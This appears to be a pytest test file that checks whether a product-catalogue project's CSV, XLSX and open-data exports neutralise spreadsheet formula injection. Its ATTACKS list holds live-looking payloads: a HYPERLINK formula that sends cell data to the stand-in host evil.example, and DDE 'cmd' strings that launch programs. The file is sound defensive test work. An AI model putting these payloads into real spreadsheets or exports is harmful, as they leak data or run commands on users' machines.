"""Formula injection: text cells that a spreadsheet would run are neutralised."""

import csv
import datetime
import decimal
import io

import pytest
from openpyxl import Workbook, load_workbook

from ocop.core.exports import safe_cell, safe_row

pytestmark = pytest.mark.unit

ATTACKS = [
    '=HYPERLINK("http://evil.example/?x="&A1,"Bấm vào đây")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]


@pytest.mark.parametrize("text", ATTACKS)
def test_formula_text_is_prefixed(text):
    assert safe_cell(text) == "'" + text


@pytest.mark.parametrize(
    "value",
    [
        "Kẹo dừa Bến Tre",
        "HTX 3-5 sao",
        "",
        None,
        3,
        -5,
        4.5,
        decimal.Decimal("-1.5"),
        datetime.date(2025, 7, 1),
        True,
    ],
)
def test_ordinary_values_are_unchanged(value):
    assert safe_cell(value) == value


def test_xlsx_export_keeps_attacks_as_text():
    book = Workbook()
    book.active.append(safe_row([ATTACKS[0], -5, "Kẹo dừa"]))
    out = io.BytesIO()
    book.save(out)
    out.seek(0)
    cell = load_workbook(out).active["A1"]
    assert (cell.data_type, cell.value) == ("s", "'" + ATTACKS[0])
    assert load_workbook(io.BytesIO(out.getvalue())).active["B1"].value == -5


def test_csv_export_keeps_attacks_as_text():
    out = io.StringIO()
    csv.writer(out).writerow(safe_row(ATTACKS[:2]))
    assert next(csv.reader(io.StringIO(out.getvalue()))) == ["'" + ATTACKS[0], "'" + ATTACKS[1]]


@pytest.mark.integration
def test_open_data_csv_and_xlsx_neutralise_formula_names(admin_units):
    from django.test import Client

    from tests.catalog.helpers import certify
    from tests.factories import ProducerFactory

    certify(name=ATTACKS[0], producer=ProducerFactory(name="@HTX độc"))
    client = Client()
    csv_rows = list(
        csv.DictReader(io.StringIO(client.get("/open-data/ocop-products.csv").content.decode("utf-8-sig")))
    )
    sheet = load_workbook(io.BytesIO(client.get("/open-data/ocop-products.xlsx").content)).active
    header = [c.value for c in sheet[1]]
    cells = dict(zip(header, sheet[2], strict=True))
    doc = client.get("/open-data/ocop-products.json").json()
    assert (csv_rows[0]["product_name"], csv_rows[0]["producer_name"]) == ("'" + ATTACKS[0], "'@HTX độc")
    assert (cells["product_name"].data_type, cells["product_name"].value) == ("s", "'" + ATTACKS[0])
    assert (cells["producer_name"].value, cells["star"].value) == ("'@HTX độc", 4)
    assert doc["items"][0]["product_name"] == ATTACKS[0]
